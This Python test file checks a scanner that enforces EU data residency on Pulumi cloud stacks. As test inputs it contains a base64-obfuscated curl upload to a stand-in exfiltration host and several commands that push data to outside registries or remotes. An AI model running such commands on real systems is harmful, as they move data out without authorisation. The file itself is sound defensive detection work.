"""Red-team round 6 of eu-residency (tests/corpus/residency/*/r6-*.yaml): one test per hole closed or false
positive fixed, each failing without its fix. The corpus cases show the realistic programs; these pin the
mechanism (scanner, local judgement, graph resolution, locations, rules)."""

from __future__ import annotations

import json

import pytest
from policy_testlib import ALLOWED, UNKNOWN, azure_provider, graph, messages, res

from policies.core.destinations import judge_local
from policies.core.references import Ref, scan
from policies.core.rule import RuleContext
from policies.core.types import class_of
from policies.core.view import ProviderView

REPL, RESOLVED = "disallow-non-eea-replication", "require-resolved-references"
LOC, INHERITED = "require-eea-location", "require-eea-inherited-location"
FN = "aws:lambda/function:Function"
SUB = "/subscriptions/00000000-0000-0000-0000-000000000000"


def _hosts(value: object) -> set[str]:
    return {r.value for r in scan({"v": value}) if r.kind == "host"}


def _env(**env: str):
    return res(FN, "fn", {"handler": "app.handler", "environment": {"variables": env}})


def _local(kind: str, value: str) -> str | None:
    outcome = judge_local(Ref("f", kind, value), RuleContext(config=ALLOWED, stack="test"))
    return "defer" if outcome.deferred else outcome.problem


# ------------------------------------------------------------------ the scanner


def test_a_cloud_suffix_must_end_the_host():
    assert _hosts("see https://docs.aws.amazon.com/lambda/x") == {"docs.aws.amazon.com"}  # not `docs.aws`


@pytest.mark.parametrize("text", ["[::ffff:198.51.100.7]:514", "::ffff:c633:6407"])
def test_ipv4_mapped_ipv6_is_the_ipv4_address(text):
    assert _hosts(text) == {"198.51.100.7"}


def test_azure_ids_in_any_case():
    ids = [r.value for r in scan({"workspaceId": "/SubScriptions/9/ResourceGroups/x/Providers/A.B/c/d"})]
    assert ids == ["/SubScriptions/9/ResourceGroups/x/Providers/A.B/c/d"]


def test_host_tokens_arm_namespaces_ports_and_versions():
    assert _hosts("Microsoft.Resources.Subscriptions") == set()  # an event type, even under a topic key
    assert not [r for r in scan({"topicType": "Microsoft.Resources.Subscriptions"}) if r.kind == "host"]
    assert _hosts("logs.acme-analytics.shop:9200") == {"logs.acme-analytics.shop"}  # a port makes a host
    assert _hosts("anthropic.claude-3-haiku-20240307-v1:0") == set()  # a model version is no port


def test_base64_literals_decoded_by_the_script_itself():
    url = "aHR0cHM6Ly91cGxvYWQuZXhmaWwtc3RvcmUuY29tL2Ryb3A="  # https://upload.exfil-store.com/drop
    assert "upload.exfil-store.com" in _hosts(f'curl -T d "$(echo {url} | base64 -d)"')
    # Round 83: an encoded word is read wherever it stands (a script may decode it by a function of its own);
    # a word that decodes to no text, as a real checksum does, names nothing.
    assert "upload.exfil-store.com" in _hosts(f"checksum {url} of the file")
    assert _hosts("checksum q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ of the file") == set()


def test_iam_statements_grant_or_deny_they_send_nothing():
    deny = {"Effect": "Deny", "Action": "*", "Resource": "arn:aws:s3:::x-us", "Condition": {"a": "us-east-1"}}
    allow = {"Effect": "Allow", "Action": "s3:*", "Resource": "*",
             "Condition": {"StringNotEquals": {"aws:RequestedRegion": ["eu-west-1", "us-east-1"]}}}
    assert scan({"policy": json.dumps({"Statement": [deny, allow]})}) == []
    # a document that is no statement (an extra key) is scanned as any other
    fake = {"Effect": "Deny", "Action": "none", "Endpoint": "https://upload.exfil-store.com/drop"}
    assert _hosts(json.dumps(fake)) == {"upload.exfil-store.com"}


def test_publish_commands_to_public_registries():
    kinds = [r.kind for r in scan({"cmd": "docker push acmeexports/dump:latest"})]
    assert "publish" in kinds
    assert "publish" in [r.kind for r in scan({"cmd": "npm publish --registry https://registry.npmjs.org/"})]
    own = scan({"cmd": "docker push 123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1"})
    assert "publish" not in [r.kind for r in own]  # the named ECR host is judged instead
    assert "an upload to a place the command does not name" in (_local("publish", "docker push") or "")


def test_unknowns_are_never_merged_and_neutral_keys_keep_their_provenance():
    env = {"SINK_URL": UNKNOWN, "X": UNKNOWN}
    refs = scan({"deadLetterConfig": {"targetArn": UNKNOWN}, "environment": env})
    assert [(r.path, r.kind) for r in refs] == [
        ("deadLetterConfig.targetArn", "unknown"),
        ("environment.SINK_URL", "unknown"),
        ("environment.X", "opaque"),
    ]


# ------------------------------------------------------------------ what a reference says about itself


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:states:::dynamodb:putItem",
        "arn:aws:scheduler:::aws-sdk:sqs:sendMessage",
        "arn:aws:ram::aws:permission/AWSRAMDefaultPermissionSubnet",
        "arn:aws:sso:::instance/ssoins-7223f1d2a0b1c2d3",
    ],
)
def test_region_less_arns_that_name_no_place(arn):
    assert _local("arn", arn) is None
    assert _local("arn", "arn:aws:sqs::999988887777:q") == "defer"  # a regional service without region


@pytest.mark.parametrize(
    "host", ["pypi.org", "download.docker.com", "docs.aws.amazon.com", "eu-west-1.console.aws.amazon.com"]
)
def test_code_sources_and_documentation_are_location_free(host):
    assert _local("host", host) is None
    assert _local("host", "upload.pypi.org") is not None  # an upload host is not


def test_managed_connectors_are_destinations():
    api = f"{SUB}/providers/Microsoft.Web/locations/westeurope/managedApis/"
    assert "managed connector 'dropbox'" in _local("azure-id", api + "dropbox")
    assert _local("azure-id", api + "azureblob") is None  # its target is in the parameters, scanned
    assert "outside the EEA" in _local("azure-id", api.replace("westeurope", "eastus") + "azureblob")


# ------------------------------------------------------------------ rules and locations


@pytest.mark.parametrize(
    ("type_", "inputs", "blocked"),
    [
        ("aws:rds/cluster:Cluster", {"globalClusterIdentifier": "eloket-global"}, True),
        ("aws:rds/cluster:Cluster", {"engine": "aurora-postgresql"}, False),
        ("aws:elasticache/replicationGroup:ReplicationGroup", {"globalReplicationGroupId": "x-global"}, True),
        ("aws:s3/bucket:Bucket", {"accelerationStatus": "Enabled"}, True),
        ("aws:apigateway/restApi:RestApi", {"name": "api"}, True),  # EDGE by default
        ("aws:apigateway/restApi:RestApi", {"endpointConfiguration": {"types": "REGIONAL"}}, False),
    ],
)
def test_edge_settings_of_regional_types(type_, inputs, blocked):
    assert bool(messages("disallow-global-edge-services", res(type_, "r", inputs), ALLOWED)) is blocked


def test_reclassified_types():
    assert class_of("aws:docdb/globalCluster:GlobalCluster") == "edge"
    assert class_of("aws:memorydb/multiRegionCluster:MultiRegionCluster") == "edge"
    assert class_of("aws:cloudcontrol/resource:Resource") == "deployer"
    assert class_of("azure-native:resources:Resource") == "deployer"
    assert class_of("azure-native:alertsmanagement:AlertProcessingRuleByName") == "global"


def test_azuread_provider_in_a_national_cloud():
    app = "azuread:index/application:Application"
    cn = ProviderView("pulumi:providers:azuread", {"environment": "china"}, "urn:prov:ad", "cn")
    assert messages("require-eea-provider-endpoints", res(app, "a", {}, provider=cn), ALLOWED)
    public = ProviderView("pulumi:providers:azuread", {"environment": "global"}, "urn:prov:ad", "g")
    assert messages("require-eea-provider-endpoints", res(app, "a", {}, provider=public), ALLOWED) == []


def test_a_global_type_put_in_a_region_is_judged_there():
    ag = "azure-native:monitor:ActionGroup"
    assert messages(LOC, res(ag, "ag", {"location": "eastus"}, provider=azure_provider()), ALLOWED)
    assert messages(LOC, res(ag, "ag", {"location": "Global"}, provider=azure_provider()), ALLOWED) == []


def test_system_topic_global_only_for_management_events():
    st = "azure-native:eventgrid:SystemTopic"
    sub = {"location": "global", "topicType": "Microsoft.Resources.Subscriptions"}
    assert messages(LOC, res(st, "t", sub, provider=azure_provider()), ALLOWED) == []
    blob = {"location": "global", "topicType": "Microsoft.Storage.StorageAccounts"}
    assert messages(LOC, res(st, "t", blob, provider=azure_provider()), ALLOWED)
    own_id = res(st, "t", {**sub, "id": f"{SUB}/resourceGroups/rg-weu/providers/Microsoft.EventGrid/x/t"})
    assert messages(RESOLVED, graph(own_id), ALLOWED) == []  # its own id: no place of its own, no finding


def test_routed_processing_skus():
    dep = "azure-native:cognitiveservices:Deployment"
    for sku, blocked in (("GlobalStandard", True), ("DataZoneStandard", True), ("Standard", False)):
        assert bool(messages(REPL, res(dep, "d", {"sku": {"name": sku}}), ALLOWED)) is blocked


# ------------------------------------------------------------------ resolution over the graph


def test_an_input_pointing_elsewhere_does_not_make_a_resource_of_the_stack():
    cgw = res("aws:ec2/customerGateway:CustomerGateway", "cgw", {"ipAddress": "198.51.100.23"})
    assert "neither a resource of this stack" in messages(RESOLVED, graph(cgw), ALLOWED)[0][1]
    eip = res("aws:ec2/eip:Eip", "eip", {"publicIp": "52.210.14.7"})
    peer = res("azure-native:network:LocalNetworkGateway", "lgw", {"location": "westeurope",
                                                                  "gatewayIpAddress": "52.210.14.7"})
    assert messages(RESOLVED, graph(eip, peer), ALLOWED) == []  # an Elastic IP's address is its own


def test_stack_reference_outputs_match_exactly_never_by_substring():
    ref = res("pulumi:pulumi:StackReference", "s", {"outputs": {"region": "eu-west-1",
                                                                "archive": "eloket-partner-exports-x"}})
    assert messages(RESOLVED, graph(ref, _env(EXPORT_BUCKET="partner-exports")), ALLOWED)
    same = res("pulumi:pulumi:StackReference", "s", {"outputs": {"region": "eu-west-1",
                                                                 "archive": "partner-exports"}})
    assert messages(RESOLVED, graph(same, _env(EXPORT_BUCKET="partner-exports")), ALLOWED) == []


def test_provenance_of_unknown_values():
    foreign = res("pulumi:pulumi:StackReference", "partner", {"name": "partner/x/prod"})
    recorded = res("pulumi:pulumi:StackReference", "dosis", {"outputs": {"location": "westeurope"}})
    pet = res("random:index/randomPet:RandomPet", "pet", {})

    def fn(key: str, dep):
        return res(FN, "fn", {"environment": {"variables": {key: UNKNOWN}}},
                   property_dependencies={"environment": (dep.urn,)})

    assert "not recorded" in messages(RESOLVED, graph(foreign, fn("ANALYTICS", foreign)), ALLOWED)[0][1]
    assert messages(RESOLVED, graph(recorded, fn("ANALYTICS", recorded)), ALLOWED) == []
    assert "no location" in messages(RESOLVED, graph(pet, fn("UPLOAD_URL", pet)), ALLOWED)[0][1]
    assert messages(RESOLVED, graph(pet, fn("DB_PASSWORD", pet)), ALLOWED) == []  # not a destination


def test_resource_group_by_physical_name_never_by_logical_name():
    rg = res("azure-native:resources:ResourceGroup", "shared", {"resourceGroupName": "shared-weu",
                                                                 "location": "westeurope"})
    st = "azure-native:storage:StorageAccount"
    outside = res(st, "st", {"resourceGroupName": "shared"})
    assert messages(INHERITED, graph(rg, outside), ALLOWED)
    inside = res(st, "st", {"resourceGroupName": "shared-weu"})
    assert messages(INHERITED, graph(rg, inside), ALLOWED) == []


def test_azure_children_live_in_their_parent():
    names = {"accountName": "dosisdata01", "name": "dosisdata01"}
    acct = res("azure-native:storage:StorageAccount", "st", {**names, "location": "westeurope"})
    bc = "azure-native:storage:BlobContainer"
    # the provider's default location (and the `location` output echoing it) says nothing about a child
    outside = res(bc, "c", {"accountName": "legacyusdata", "location": "westeurope"},
                  provider=azure_provider())
    assert messages(LOC, outside, ALLOWED) == []  # decided over the graph
    assert "not a resource of this stack" in messages(INHERITED, graph(acct, outside), ALLOWED)[0][1]
    inside = res(bc, "c", {"accountName": "dosisdata01"}, provider=azure_provider())
    assert messages(INHERITED, graph(acct, inside), ALLOWED) == []
    by_output = res(bc, "c", {"accountName": UNKNOWN}, property_dependencies={"accountName": (acct.urn,)})
    assert messages(INHERITED, graph(acct, by_output), ALLOWED) == []


def test_implied_destinations_and_accepted_connections():
    slack = res("aws:chatbot/slackChannelConfiguration:SlackChannelConfiguration", "c", {"slackTeamId": "T1"})
    assert "slack.com" in messages(REPL, slack, ALLOWED)[0]
    acc = res("aws:ec2/vpcPeeringConnectionAccepter:VpcPeeringConnectionAccepter", "a",
              {"vpcPeeringConnectionId": "pcx-0a1b2c3d"})
    assert messages(RESOLVED, graph(acc), ALLOWED)
    pcx = res("aws:ec2/vpcPeeringConnection:VpcPeeringConnection", "pcx", {"id": "pcx-0a1b2c3d",
                                                                            "peerRegion": "eu-west-1"})
    assert messages(RESOLVED, graph(pcx, acc), ALLOWED) == []


def test_storage_accounts_named_in_outputs_and_connections():
    out = res("azure-native:streamanalytics:Output", "o", {"datasource": {"storageAccounts": [
        {"accountName": "partnerusexport"}]}}, provider=azure_provider())
    assert "partnerusexport" in messages(RESOLVED, graph(out), ALLOWED)[0][1]
    conn = {"properties": {"parameterValues": {"accountName": "partnerusblob"}}}
    assert messages(RESOLVED, graph(res("azure-native:web:Connection", "c", conn)), ALLOWED)


# ------------------------------------------------------------------ second pass (probes of the fixes above)


def test_inventory_reads_resource_args_not_nested_input_types():
    from policies.core.types import is_child, is_scoped

    assert is_child("azure-native:network:Subnet")  # `SubnetInitArgs`, not the nested `SubnetArgs`
    assert not is_scoped("azure-native:dataprotection:BackupVault")  # it has a location: judged by it


def test_region_lists_name_their_regions():
    regions = {"publishingProfile": {"targetRegions": [{"name": "West Europe"}, {"name": "East US"}]}}
    assert [r.value for r in scan(regions) if r.kind == "region"] == ["West Europe", "East US"]
    assert [r.kind for r in scan({"rules": [{"name": "East US"}]})] == []  # any other `name` is a name


def test_service_hosts_never_resolve_to_a_child_of_the_same_name():
    acct = res("azure-native:storage:StorageAccount", "st", {"name": "dosisdata01", "location": "westeurope"})
    names = {"name": "partnerexports", "accountName": "dosisdata01"}
    child = res("azure-native:storage:BlobContainer", "c", names)
    app = res("azure-native:web:WebApp", "app", {"location": "westeurope",
                                                 "url": "https://partnerexports.blob.core.windows.net/x"})
    assert "partnerexports" in messages(RESOLVED, graph(acct, child, app), ALLOWED)[0][1]


def test_a_parent_is_looked_up_in_the_child_resource_group():
    where = {"resourceGroupName": "rg-dosis", "location": "westeurope"}
    vnet = res("azure-native:network:VirtualNetwork", "v", {"name": "vnet-hub", **where})
    sn = "azure-native:network:Subnet"
    outside = res(sn, "s", {"virtualNetworkName": "vnet-hub", "resourceGroupName": "partner-us-rg"})
    assert messages(INHERITED, graph(vnet, outside), ALLOWED)
    inside = res(sn, "s", {"virtualNetworkName": "vnet-hub", "resourceGroupName": "RG-DOSIS"})
    assert messages(INHERITED, graph(vnet, inside), ALLOWED) == []


def test_more_hosts_and_publish_commands():
    assert _hosts("logs.acme-analytics.shop") == {"logs.acme-analytics.shop"}  # a newer gTLD, deep enough
    assert _hosts("app.handlers.orders backup.tar.sh") == set()  # code names and files stay names
    for cmd in ("docker image push acme/db:1", "gh release upload nightly n.csv", "skopeo copy a b"):
        assert "publish" in [r.kind for r in scan({"cmd": cmd})], cmd


def test_parents_from_recorded_stacks_and_failover_group_listeners():
    recorded = res("pulumi:pulumi:StackReference", "dosis", {"outputs": {"location": "westeurope"}})
    rule = res("azure-native:network:SecurityRule", "r", {"networkSecurityGroupName": "weu-pe-nsg01",
                                                          "resourceGroupName": "dosis-westeurope"},
               property_dependencies={"networkSecurityGroupName": (recorded.urn,)})
    assert messages(INHERITED, graph(recorded, rule), ALLOWED) == []  # that stack's NSG, judged there
    foreign = res("pulumi:pulumi:StackReference", "partner", {"name": "partner/net/prod"})
    rule.property_dependencies["networkSecurityGroupName"] = (foreign.urn,)
    assert "not recorded" in messages(INHERITED, graph(foreign, rule), ALLOWED)[0][1]
    server = res("azure-native:sql:Server", "weu", {"name": "dosis-sql-weu", "location": "westeurope"})
    fog = res("azure-native:sql:FailoverGroup", "fog", {"name": "dosis-fog", "serverName": "dosis-sql-weu"})
    host = "dosis-fog.database.windows.net"
    app = res("azure-native:web:WebApp", "app", {"location": "westeurope", "db": host})
    assert messages(RESOLVED, graph(server, fog, app), ALLOWED) == []


def test_third_pass_names_values_vault_names_and_remotes():
    # an environment entry's name keys its value (ECS `environment`, App Service `appSettings`)
    refs = scan({"environment": [{"name": "EXPORT_BUCKET", "value": "partner-us-exports"}]})
    assert [(r.kind, r.value) for r in refs] == [("bucket", "partner-us-exports")]
    # PascalCase, as a Step Functions ECS or Batch task writes the API's own JSON (found by the region and
    # account mutants of the compliant cases: the value was judged under the key `Value`)
    pascal = scan({"Environment": [{"Name": "EXPORT_BUCKET", "Value": "partner-us-exports"}]})
    assert [(r.kind, r.value) for r in pascal] == [("bucket", "partner-us-exports")]
    assert scan({"Environment": [{"Name": "LOG_LEVEL", "Value": "partner-us-exports"}]}) == []
    fn_storage = scan({"appSettings": [{"name": "AzureWebJobsStorage__accountName", "value": "partnerus"}]})
    assert [r.kind for r in fn_storage] == ["named"]
    reference = "@Microsoft.KeyVault(VaultName=partner-us-kv;SecretName=db)"
    assert _hosts(reference) == {"partner-us-kv.vault.azure.net"}
    assert "publish" in [r.kind for r in scan({"cmd": "rclone sync /srv/data offsite:backup"})]


def test_neutral_unknowns_from_unplaceable_resources():
    read = res("aws:s3/bucketV2:BucketV2", "partner", {"region": UNKNOWN, "bucket": UNKNOWN})
    fn = res(FN, "fn", {"environment": {"variables": {"EXPORTS": UNKNOWN}}},
             property_dependencies={"environment": (read.urn,)})
    assert any(n == "fn" for n, _ in messages(RESOLVED, graph(read, fn), ALLOWED))


def test_dns_records_that_authorise_or_delegate_send_nothing():
    def record(typ: str, *records: str):
        return res("aws:route53/record:Record", "r", {"type": typ, "records": list(records)})

    assert messages(REPL, record("CAA", '0 issue "amazon.com"'), ALLOWED) == []
    assert messages(REPL, record("TXT", "v=spf1 include:amazonses.com -all"), ALLOWED) == []
    assert messages(REPL, record("NS", "ns1-01.azure-dns.com."), ALLOWED) == []
    assert messages(REPL, record("TXT", "v=DMARC1; rua=mailto:a@ag.us.dmarcian.com"), ALLOWED)  # reports
    assert messages(REPL, record("CNAME", "app.partner-us.example.com"), ALLOWED)  # traffic goes there
    caa = res("azure-native:dns:RecordSet", "c", {"caaRecords": [{"tag": "issue", "value": "digicert.com"}]})
    assert messages(REPL, caa, ALLOWED) == []


def test_azure_ids_match_whatever_the_namespace_is_spelled():
    rid = "/subscriptions/0/resourceGroups/rg-dosis/providers/Microsoft.Redis/redis/dosis-neu"  # as recorded
    neu = res("azure-native:redis:Redis", "neu", {"id": rid, "location": "northeurope"})
    real = "/subscriptions/0/resourceGroups/{}/providers/Microsoft.Cache/Redis/dosis-neu"
    link = res("azure-native:redis:LinkedServer", "l", {"linkedRedisCacheId": real.format("rg-dosis")})
    assert messages(RESOLVED, graph(neu, link), ALLOWED) == []
    other = res("azure-native:redis:LinkedServer", "l", {"linkedRedisCacheId": real.format("rg-other")})
    assert messages(RESOLVED, graph(neu, other), ALLOWED)


def test_fourth_pass_classes_and_source_repositories():
    assert class_of("aws:amplify/app:App") == "edge"
    assert class_of("aws:route53/resolverFirewallRule:ResolverFirewallRule") == "regional"  # not global
    assert _local("host", "github.com") is None  # source pulled in
    assert "publish" in [r.kind for r in scan({"s": "git push https://github.com/acme/dump.git main"})]
    assert "publish" not in [r.kind for r in scan({"s": "git clone https://github.com/acme/app.git"})]


def test_aws_owned_regional_buckets_are_placed_by_their_name():
    assert _local("arn", "arn:aws:s3:::aws-ssm-eu-west-1/*") is None
    assert _local("bucket", "prod-eu-west-1-starport-layer-bucket") is None
    assert "outside the EEA" in _local("arn", "arn:aws:s3:::amazonlinux-2-repos-us-east-1/*")
    assert _local("arn", "arn:aws:s3:::prod-eu-west-1-exfil-drop/*") == "defer"  # a look-alike is any bucket


def test_structure_under_a_prose_like_name_is_scanned():
    """A resource's own `description` is prose and skipped, but a field named like free text that holds
    structure (an Event Hub's `captureDescription`) holds destinations like any other (r7 probe)."""
    sid = ("/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/us/providers/"
           "Microsoft.Storage/storageAccounts/archiveus")
    found = scan({"captureDescription": {"destination": {"storageAccountResourceId": sid}}})
    assert [(r.kind, r.value) for r in found] == [("azure-id", sid)]
    assert scan({"description": f"archived to {sid}"}) == []
